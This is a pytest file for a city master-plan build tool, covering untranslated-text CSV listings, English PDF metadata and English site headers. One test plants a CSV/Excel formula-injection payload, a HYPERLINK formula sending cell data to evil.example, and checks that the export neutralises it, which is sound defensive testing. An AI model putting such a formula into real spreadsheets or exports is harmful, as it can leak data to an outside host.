"""An edition in another language than the plan is written in: the build counts the texts it prints untranslated and
lists them, each at its file and line, in build/untranslated-<language>.csv (masterplan/translations.py)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from conftest import MINI_FILES, write_plan
from test_cli import invoke

AGENCY = "content/agencies/diskominfo.yml"


def _english(plan_yml: str) -> str:
    return plan_yml.replace("status: draft\n", "status: draft\n        language: en\n        written_in: id\n")


def test_an_english_edition_lists_what_it_prints_in_indonesian(make_plan: Callable[..., Path]) -> None:
    """A translator found the sample's 800 untranslated texts by a script of her own: validate and build said
    nothing of them. The build now says how many, and lists each with its file, line and field."""
    agency = MINI_FILES[AGENCY].replace("name: e-Sambat (Media Sambat Masyarakat)",
                                        "name: {id: e-Sambat (Media Sambat Masyarakat), en: e-Sambat (Citizen Complaints)}")
    agency = agency.replace("description: Warga **mengadu** lewat aplikasi.",
                            "description: '=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")'")
    assert agency != MINI_FILES[AGENCY]
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"]), AGENCY: agency})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err
    listed = root / "build" / "untranslated-en.csv"
    assert "Without a version in this edition's language (en), printed as written: texts of the plan " in out + err
    raw = listed.read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert list(rows[0]) == ["file", "line", "field", "text", "en"]
    summary = next(row for row in rows if row["field"] == "programs › GOV-01 › summary")
    lines = (root / AGENCY).read_text(encoding="utf-8").splitlines()
    assert summary["file"] == AGENCY and "Aduan warga ditanggapi" in lines[int(summary["line"]) - 1]
    assert summary["text"] == "Aduan warga ditanggapi dalam 10 menit." and summary["en"] == ""
    assert {"programs › GOV-01 › indicators › 1 › name", "programs › GOV-01 › indicators › 1 › unit"} <= {
        row["field"] for row in rows if row["file"] == AGENCY}
    assert not any(row["field"] == "programs › GOV-01 › name" for row in rows)  # it has its English name
    formula = next(row for row in rows if row["field"] == "programs › GOV-01 › description")
    assert formula["text"].startswith("'=HYPERLINK(")  # an agency's text is no formula in the translator's Excel
    assert not any(row["field"] in ("short_name", "id", "kind") for row in rows)  # codes and proper names are no texts
    said = next(line for line in (out + err).splitlines() if "untranslated-en.csv" in line)
    assert f"texts of the plan {len(rows)}, chapters " in said and said.endswith(
        "listed in build/untranslated-en.csv, and a chapter's translation goes beside its chapter "
        "(01-pendahuluan.en.md)")
    # the Indonesian edition prints every text as written: no line, and the list of the English one is gone
    write_plan(root, {"content/plan.yml": MINI_FILES["content/plan.yml"]})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "untranslated" not in out + err and not listed.exists(), out + err


def test_the_english_books_subject_is_in_english_word_order(make_plan: Callable[..., Path]) -> None:
    """The PDF's subject joined the words "Smart city master plan" and the city: "Smart city master plan Kota Contoh
    2022–2026", Indonesian word order in English words. The subject is one message, ordered by each language."""
    import pypdf

    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    code, out, err = invoke("build", str(root), "--no-site")
    assert code == 0, out + err
    subject = pypdf.PdfReader(root / "build" / "masterplan.pdf").metadata.subject
    assert subject == "Kota Contoh Smart City Master Plan 2022–2026 · Version 0.1 · Draft", subject


def test_the_english_sites_header_names_the_plan_in_english(make_plan: Callable[..., Path]) -> None:
    """Every page of the English edition headed with "Masterplan Smart City", the Indonesian title's words, unmarked
    as Indonesian. Without an English title the header says the catalog's "Smart City Master Plan"; with one, its
    words."""
    plan_yml = _english(MINI_FILES["content/plan.yml"])
    root = make_plan({"content/plan.yml": plan_yml})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err

    def header() -> str:
        page = (root / "build" / "site" / "index.html").read_text(encoding="utf-8")
        return page.split('class="brand-title">', 1)[1].split("<", 1)[0].strip()

    assert header() == "Smart City Master Plan"
    write_plan(root, {"content/plan.yml": plan_yml.replace(
        "title: Masterplan Smart City Kota Contoh 2022–2026",
        "title: {id: Masterplan Smart City Kota Contoh 2022–2026, en: Kota Contoh Smart City Blueprint 2022–2026}")})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and header() == "Smart City Blueprint", out + err
